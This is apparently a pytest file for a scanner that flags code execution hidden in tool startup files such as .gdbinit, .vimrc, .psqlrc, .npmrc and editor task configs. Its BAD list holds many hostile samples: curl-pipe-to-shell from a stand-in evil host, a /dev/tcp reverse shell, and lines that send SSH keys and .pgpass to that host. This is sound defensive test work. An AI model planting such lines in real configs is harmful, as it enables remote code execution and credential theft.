"""Settings that tools obey when they start: what they run is told, ordinary settings are silent."""

# ruff: noqa: E501 - attacks stand as they are written
from __future__ import annotations

import io

import pytest

from assay.core.finding import Severity
from assay.formats.reading import Limits
from assay.formats.texts.read import read

E = "https://c.evil.example"
BAD = [
    (".gdbinit", f"set pagination off\nshell curl -fsSL {E}/i | sh\n"),
    (".gdbinit", "python\nimport os\nos.system('id')\nend\n"),
    (".lldbinit", f"platform shell curl -s {E}/i | bash\n"),
    (".vimrc", f"set nocompatible\nsilent! !curl -s {E}/i | sh\n"),
    (".exrc", f"call system('curl -d @' . expand('~/.ssh/id_rsa') . ' {E}')\n"),
    (".nvim.lua", f"os.execute('wget -qO- {E}/x | sh')\n"),
    (".nvimrc", "autocmd BufRead * call job_start(['bash','-c','bash -i >& /dev/tcp/1.2.3.4/9 0>&1'])\n"),
    (".dir-locals.el", f'((nil . ((eval . (shell-command "curl -s {E}/x | sh")))))'),
    (".emacs", f'(call-process "bash" nil 0 nil "-c" "curl -s {E}/x | sh")\n'),
    (".tmux.conf", f'set -g mouse on\nrun-shell "curl -s {E}/x | bash"\n'),
    (".tmux.conf", f"set -g status-right '#(curl -s {E}/x | sh)'\n"),
    (".pylintrc", f"[MASTER]\ninit-hook='import os; os.system(\"curl -s {E}/x | sh\")'\n"),
    ("startup.jl", f'using Revise\nrun(`bash -c "curl -s {E}/x | sh"`)\n'),
    ("startup.jl", f'include(download("{E}/x.jl"))\n'),
    (".Rprofile", f'system("curl -s {E}/x | sh")\n'),
    (".Rprofile", f'source("{E}/x.R")\n'),
    (".irbrc", f"require 'net/http'\neval(Net::HTTP.get(URI('{E}/x')))\n"),
    (".pryrc", f"`curl -s {E}/x | sh`\n"),
    (".psqlrc", f"\\! curl -s {E}/x | sh\n"),
    (".psqlrc", "\\set x `cat ~/.pgpass ~/.ssh/id_rsa | curl -d @- " + E + "`\n"),
    (".inputrc", f'"\\C-l": "curl -s {E}/x | sh\\n"\n'),
    (".sqliterc", f".system curl -s {E}/x | sh\n"),
    (".ghci", f":! curl -s {E}/x | sh\n"),
    (".hgrc", f"[hooks]\nupdate = curl -s {E}/x | sh\n"),
    (".bazelrc", f"build --workspace_status_command='bash -c \"curl -s {E}/x | sh\"'\n"),
    (
        ".idea/runConfigurations/x.xml",
        f'<component name="ProjectRunConfigurationManager"><configuration><option name="SCRIPT_TEXT" value="curl -s {E}/x | sh"/></configuration></component>',
    ),
    (".vscode/tasks.json", '{"tasks":[{"label":"b","command":"sh -c \'curl -s ' + E + "/x | sh'\"}]}"),
    (".zed/tasks.json", '[{"label":"x","command":"curl -s ' + E + '/x | sh"}]'),
    ("x.sublime-project", '{"build_systems":[{"name":"x","shell_cmd":"curl -s ' + E + '/x | sh"}]} // c'),
    ("ipython_config.py", f"c=get_config()\nc.InteractiveShellApp.exec_lines=['!curl -s {E}/x | sh']\n"),
    (
        "jupyter_server_config.py",
        f"c.ServerApp.terminado_settings={{'shell_command':['bash','-c','curl -s {E}/x | bash']}}\n",
    ),
    ("mise.toml", f"[hooks]\nenter='curl -s {E}/x | sh'\n"),
    (".envrc", f'x=$(curl -s {E}/x)\neval "$x"\n'),
    ("tox.ini", f"[testenv]\ncommands =\n    bash -c 'curl -s {E}/x | sh'\n"),
    ("notes.txt", "hello\n# vim: set foldmethod=expr foldexpr=system('id'):\n"),
    ("notes.c", '/* x */\n// Local Variables:\n// eval: (shell-command "curl -s ' + E + '/x | sh")\n// End:\n'),
    ("startup.ipy", f"!curl -s {E}/x | sh\n"),
    (
        "pom.xml",
        f"<project><exec><arguments><argument>-c</argument><argument>curl -s {E}/x | sh</argument></arguments></exec></project>",
    ),
    (".npmrc", "script-shell=/tmp/.x/sh\nregistry=http://evil.example/\n"),
    (".yarnrc.yml", "npmRegistryServer: 'http://evil.example'\n"),
    (".asdfrc", f"pre_asdf_install_nodejs = curl -s {E}/x | sh\n"),
    (".cargo/config.toml", f"[build]\nrustc-wrapper=\"bash -c 'curl -s {E}/x | sh'\"\n"),
    (".mailcap", f"text/html; curl -s {E}/x | sh\n"),
    (".octaverc", f"system('curl -s {E}/x | sh');\n"),
    (".gitconfig", f"[alias]\n x = !curl -s {E}/x | sh\n"),
]
GOOD = [
    (
        ".gdbinit",
        "set pagination off\nset print pretty on\npython\nimport sys\nsys.path.insert(0,'/usr/share/gcc/python')\nfrom libstdcxx.v6.printers import register_libstdcxx_printers\nregister_libstdcxx_printers(None)\nend\nshell clear\n",
    ),
    (".lldbinit", "command alias bd breakpoint disable\nsettings set target.x86-disassembly-flavor intel\n"),
    (
        ".vimrc",
        "\" run curl https://x | sh to install vim-plug\nset nocompatible\nif empty(glob('~/.vim/autoload/plug.vim'))\n  silent !curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim\nendif\ncall plug#begin()\nPlug 'https://github.com/tpope/vim-fugitive'\ncall plug#end()\nlet g:branch = system('git rev-parse --abbrev-ref HEAD')\n",
    ),
    (
        ".tmux.conf",
        "set -g mouse on\nset -g status-right '#(date) #(curl -s wttr.in?format=1)'\nrun '~/.tmux/plugins/tpm/tpm'\nbind r source-file ~/.tmux.conf\n",
    ),
    (
        ".Rprofile",
        'source("renv/activate.R")\noptions(repos=c(CRAN="https://cran.r-project.org"))\nif (interactive()) suppressMessages(library(usethis))\n',
    ),
    (".irbrc", "require 'irb/completion'\nIRB.conf[:SAVE_HISTORY]=1000\n"),
    (".psqlrc", "\\set QUIET 1\n\\timing\n\\! clear\n\\setenv PAGER 'less -S'\n"),
    (".inputrc", '"\\e[A": history-search-backward\nset show-all-if-ambiguous on\n'),
    (".sqliterc", ".mode column\n.headers on\n"),
    ("startup.jl", "using Revise\natreplinit() do repl\n try @eval using OhMyREPL catch end\nend\n"),
    (
        ".dir-locals.el",
        '((python-mode . ((fill-column . 100) (eval . (setq-local python-shell-interpreter (expand-file-name ".venv/bin/python"))))))',
    ),
    (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\"src\")'\n"),
    (
        "tox.ini",
        "[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs}\n    curl -fsS http://localhost:8080/health\n",
    ),
    (".editorconfig", "root = true\n[*]\nindent_style = space\n"),
    ("a.c", "/* x */\n/* vim: set ts=4 sw=4 et: */\n"),
    ("b.txt", "-*- mode: text; fill-column: 80 -*-\n"),
    (
        "ipython_config.py",
        "c=get_config()\nc.InteractiveShellApp.exec_lines=['import numpy as np','%load_ext autoreload']\n",
    ),
    (
        "jupyter_notebook_config.py",
        "c.NotebookApp.ip='0.0.0.0'\nc.NotebookApp.terminado_settings={'shell_command':['/bin/bash']}\n",
    ),
    (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
    (".ripgreprc", "--smart-case\n--glob=!node_modules\n"),
    (
        ".idea/runConfigurations/t.xml",
        '<component><configuration><option name="SCRIPT_NAME" value="$PROJECT_DIR$/train.py"/><option name="PARAMETERS" value="--epochs 3"/></configuration></component>',
    ),
    ("mise.toml", "[tools]\npython='3.11'\n[tasks.t]\nrun='pytest -q'\n"),
    ("x.sublime-project", '{"folders":[{"path":"."}], // c\n}'),
    (".envrc", "layout python\nexport X=1\n"),
    (".gitconfig", "[alias]\n st = status\n root = !git rev-parse --show-toplevel\n"),
    (
        "pom.xml",
        "<project><exec><arguments><argument>-jar</argument><argument>tool.jar</argument></arguments></exec></project>",
    ),
    (".bazelrc", "build --workspace_status_command=tools/status.sh\n"),
    ("init.vim", "autocmd BufWritePre *.py :silent !black %\n"),
    (".env", "A=1\n"),
]


def worst(name: str, text: str) -> tuple[list[str], tuple[str, ...]]:
    said = read(io.BytesIO(text.encode()), name, Limits())
    return [n.message for n in said.notes if n.severity.rank >= Severity.MEDIUM.rank], said.gaps


@pytest.mark.parametrize(("name", "text"), BAD)
def test_what_is_run_is_told(name: str, text: str) -> None:
    assert worst(name, text)[0]


@pytest.mark.parametrize(("name", "text"), GOOD)
def test_the_ordinary_is_silent(name: str, text: str) -> None:
    assert worst(name, text) == ([], ())


@pytest.mark.parametrize(("name", "text"), BAD[::3])
def test_what_is_torn_never_raises(name: str, text: str) -> None:
    for cut in (1, len(text) // 3, len(text) * 2 // 3):
        assert all(isinstance(message, str) for message in worst(name, text[:cut])[0])
